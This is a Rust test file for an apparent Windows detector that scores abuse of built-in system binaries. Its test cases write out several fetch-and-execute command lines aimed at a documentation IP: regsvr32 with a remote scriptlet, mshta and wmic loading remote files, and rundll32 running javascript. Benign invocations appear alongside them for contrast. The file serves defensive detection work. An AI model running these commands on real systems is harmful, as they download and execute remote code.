use super::*;

fn score(image: &str, line: &str) -> i32 {
    let program = Program {
        image,
        original: "",
        command_line: line,
        directory: r"C:\Users\ann\Desktop",
    };
    utility(&program, &program.name()).map_or(0, |found| found.score)
}

#[test]
fn abuse_is_told_from_use() {
    let s = r"C:\Windows\System32\";
    for (exe, arguments, expected) in [
        (
            "regsvr32.exe",
            "/s /u /i:http://203.0.113.5/a.sct scrobj.dll",
            35,
        ),
        ("regsvr32.exe", r"/s C:\Windows\System32\msxml3.dll", 0),
        (
            "rundll32.exe",
            r#"javascript:"\..\mshtml,RunHTMLApplication ""#,
            35,
        ),
        (
            "rundll32.exe",
            "zipfldr.dll,RouteTheCall shell:::{769f9427}",
            20,
        ),
        ("rundll32.exe", "shell32.dll,Control_RunDLL desk.cpl", 0),
        (
            "rundll32.exe",
            r"shell32.dll,Control_RunDLL C:\ProgramData\a.cpl",
            25,
        ),
        ("rundll32.exe", "", 0),
        ("mshta.exe", "https://203.0.113.5/a.hta", 35),
        ("mshta.exe", r#""C:\Program Files\HP\a.hta""#, 0),
        (
            "wmic.exe",
            r#"os get /format:"https://203.0.113.5/x.xsl""#,
            35,
        ),
        ("wmic.exe", "os get caption /format:list", 0),
        ("msbuild.exe", r"C:\Windows\Tasks\p.xml", 25),
        ("msbuild.exe", r"C:\Users\ann\source\app\app.csproj", 0),
        ("InstallUtil.exe", r"/logfile= /U C:\ProgramData\a.dll", 25),
        ("InstallUtil.exe", r#""C:\Program Files\V\svc.exe""#, 0),
        ("explorer.exe", "", 0),
    ] {
        let image = format!("{s}{exe}");
        assert_eq!(
            score(&image, &format!("{image} {arguments}")),
            expected,
            "{exe} {arguments}"
        );
    }
}
